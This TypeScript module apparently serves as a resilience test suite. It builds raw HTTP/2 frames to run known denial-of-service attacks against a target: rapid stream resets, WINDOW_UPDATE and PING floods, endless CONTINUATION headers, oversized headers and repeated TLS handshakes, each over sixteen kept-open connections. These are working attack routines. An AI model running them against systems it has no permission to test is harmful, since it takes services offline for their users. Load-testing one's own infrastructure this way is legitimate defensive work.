import type { Socket } from 'node:net';
import {
  FLAGS,
  FRAMES,
  headOf,
  postFields,
  PREFACE,
  printFields,
  printFrame,
  uint32,
} from '@ethread/http/testing';
import type { EdgeAttack } from './edge-attacks.ts';
import { flood, keepOpen, openTls, type Target } from './raw-client.ts';

/** The connections of each attack. */
const CONNECTIONS = 16;
/** The streams that a connection opens in one write. */
const STREAMS = 1_000;
/** The large heads of one write, as many as the streams that a connection may have open. */
const HEADS = 100;
const CANCEL = 8;

const settings = (flags: number) => printFrame(FRAMES.settings, flags, 0);
/** The beginning of a connection. Limits apply from the acknowledgement of the settings on. */
const GREETING = Buffer.concat([PREFACE, settings(FLAGS.none), settings(FLAGS.ack)]);

/** Attacks over HTTP/2 connections that have begun, and opens another for each that the service ends. */
function overHttp2(name: string, attack: (socket: Socket, target: Target) => void): EdgeAttack {
  return {
    name,
    run: (target) =>
      keepOpen(
        target,
        CONNECTIONS,
        (socket) => {
          socket.resume().write(GREETING);
          attack(socket, target);
        },
        openTls,
      ),
  };
}

/** Returns frames for each of a number of new streams. Clients open streams with odd numbers. */
const ofStreams = (count: number, framesOf: (stream: number) => Uint8Array): Buffer =>
  Buffer.concat(Array.from({ length: count }, (_, index) => framesOf(2 * index + 1)));

const head = ({ key }: Target, stream: number, flags: number = FLAGS.none): Buffer =>
  headOf(
    stream,
    [
      ...postFields(['content-type', 'application/json']).filter(([name]) => name !== ':path'),
      [':path', `/v3/${key}`],
    ],
    flags,
  );

/** A head of 9 kB in sixty fields, as large as the limits allow. */
const wideHead = (stream: number): Buffer =>
  headOf(
    stream,
    postFields(...Array.from({ length: 60 }, (_, field) => [`x-${field}`, 'a'.repeat(145)] as const)),
    FLAGS.endStream,
  );

export const HTTP2_ATTACKS: readonly EdgeAttack[] = [
  overHttp2('HTTP/2: streams that are reset', (socket, target) =>
    socket.write(
      ofStreams(STREAMS, (stream) =>
        Buffer.concat([head(target, stream), printFrame(FRAMES.reset, FLAGS.none, stream, uint32(CANCEL))]),
      ),
    ),
  ),
  overHttp2('HTTP/2: streams that must be reset', (socket, target) =>
    socket.write(
      ofStreams(STREAMS, (stream) =>
        Buffer.concat([
          head(target, stream),
          printFrame(FRAMES.windowUpdate, FLAGS.none, stream, uint32(0x7fffffff)),
        ]),
      ),
    ),
  ),
  overHttp2('HTTP/2: heads of 9 kB', (socket) => {
    let sent = 0;
    const next = () => {
      const first = sent;
      sent += HEADS;
      socket.write(
        ofStreams(HEADS, (stream) => wideHead(2 * first + stream)),
        next,
      );
    };
    next();
  }),
  overHttp2('HTTP/2: WINDOW_UPDATE', (socket) => {
    const update = printFrame(FRAMES.windowUpdate, FLAGS.none, 0, uint32(1));
    flood(socket, Buffer.concat(Array<Buffer>(5_000).fill(update)));
  }),
  overHttp2('HTTP/2: PING', (socket) => {
    const ping = printFrame(FRAMES.ping, FLAGS.none, 0, Buffer.alloc(8));
    flood(socket, Buffer.concat(Array<Buffer>(5_000).fill(ping)));
  }),
  overHttp2('HTTP/2: a head without end', (socket) => {
    socket.write(printFrame(FRAMES.headers, FLAGS.none, 1));
    const part = printFrame(FRAMES.continuation, FLAGS.none, 1, printFields([['x', 'a'.repeat(200)]]));
    flood(socket, Buffer.concat(Array<Buffer>(500).fill(part)));
  }),
  {
    name: 'TLS handshakes',
    run: (target) => keepOpen(target, CONNECTIONS, (socket) => socket.destroy(), openTls),
  },
];
